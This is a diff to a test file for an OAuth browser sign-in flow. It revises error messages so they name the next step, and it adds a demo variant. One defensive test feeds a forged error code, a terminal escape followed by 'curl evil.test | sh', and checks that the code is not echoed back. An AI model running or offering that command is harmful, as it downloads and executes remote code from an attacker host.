@@ -364,28 +364,46 @@ describe("authorizeWithBrowser", () => {
     const authorize = new URL(await flow.url);
     expect((await flow.visit(redirectOf(authorize, { error: "access_denied", state: "forged" }))).status).toBe(400);
     expect(await flow.pending(), "a redirect with another state ended the wait").toBe(true);
-    await expect(run).rejects.toThrow(new AuthorizeError("no redirect arrived within 1 s (1 redirect with another state was refused); run authorize again"));
+    await expect(run).rejects.toThrow(new AuthorizeError("no redirect arrived within 1 s (1 redirect with another state was refused): run `npm run bridge -- authorize` again, with the same options"));
     expect(requests).toEqual([]);
     expect(store.saved).toBeUndefined();
   });
 
-  it("reports a denial by its OAuth error code", async () => {
+  const AGAIN = "run `npm run bridge -- authorize` again";
+
+  // A person who denied in the browser was told the code only, not what to do next.
+  it("reports a denial by its OAuth error code, with the next step", async () => {
     const run = authorizeWithBrowser(
       options({ onAuthorizeUrl: browser((a) => ({ error: "access_denied", state: a.searchParams.get("state") as string })) }),
     );
-    await expect(run).rejects.toThrow(new AuthorizeError("authorization was not granted (access_denied)"));
+    await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (access_denied): ${AGAIN}, with the same options, and approve access`));
     const scoped = authorizeWithBrowser(
       options({ onAuthorizeUrl: browser((a) => ({ error: "invalid_scope", state: a.searchParams.get("state") as string })) }),
     );
     await expect(scoped).rejects.toThrow(
-      new AuthorizeError("authorization was not granted (invalid_scope): check --scope (the default asks for transactions:read transactions:write cards:read)"),
+      new AuthorizeError(`authorization was not granted (invalid_scope): check --scope (the default asks for transactions:read transactions:write cards:read), then ${AGAIN}`),
     );
+    const unavailable = authorizeWithBrowser(
+      options({ onAuthorizeUrl: browser((a) => ({ error: "temporarily_unavailable", state: a.searchParams.get("state") as string })) }),
+    );
+    await expect(unavailable).rejects.toThrow(new AuthorizeError(`authorization was not granted (temporarily_unavailable): ${AGAIN}, with the same options`));
+  });
+
+  // The demo signs in by itself against its own sandbox: no --scope to check, no authorize to run; it starts anew.
+  it("names the caller's way to sign in again, without --scope, when the sign-in is not the person's (the demo)", async () => {
+    const signInAgain = { words: "start a new demo with `npm start`", sameState: false };
+    for (const error of ["access_denied", "invalid_scope"]) {
+      const run = authorizeWithBrowser(options({ signInAgain, onAuthorizeUrl: browser((a) => ({ error, state: a.searchParams.get("state") as string })) }));
+      await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (${error}): start a new demo with \`npm start\``));
+    }
+    const late = authorizeWithBrowser(options({ signInAgain, timeoutMs: 1_000 }));
+    await expect(late).rejects.toThrow(new AuthorizeError("no redirect arrived within 1 s: start a new demo with `npm start`"));
   });
 
   it("echoes no error code that is not a plain OAuth word (it comes from whoever sent the redirect)", async () => {
     const forged = "\u001b[2Jrun curl evil.test | sh";
     const run = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: forged, state: a.searchParams.get("state") as string })) }));
-    await expect(run).rejects.toThrow(new AuthorizeError("authorization was not granted (unknown_error)"));
+    await expect(run).rejects.toThrow(new AuthorizeError(`authorization was not granted (unknown_error): ${AGAIN}, with the same options`));
   });
 
   const UNCODED_400_HINT =
